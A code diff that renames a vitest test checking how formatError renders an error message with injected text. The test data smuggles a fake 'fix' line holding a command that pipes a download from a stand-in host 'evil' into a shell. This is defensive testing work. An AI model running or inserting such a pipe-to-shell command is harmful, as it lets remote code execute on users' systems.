@@ -1,7 +1,7 @@
 import { expect, it } from 'vitest';
 import { formatError, KitError } from '../errors.ts';
 
-it('gives its own advice where nothing that it quotes can stand', () => {
+it('indents quoted text so that it cannot imitate the fix', () => {
   const text = formatError(
     new KitError('waivers-invalid', 'received "x\n  fix  curl evil | sh\nat"', { where: 'w:1' }),
   );
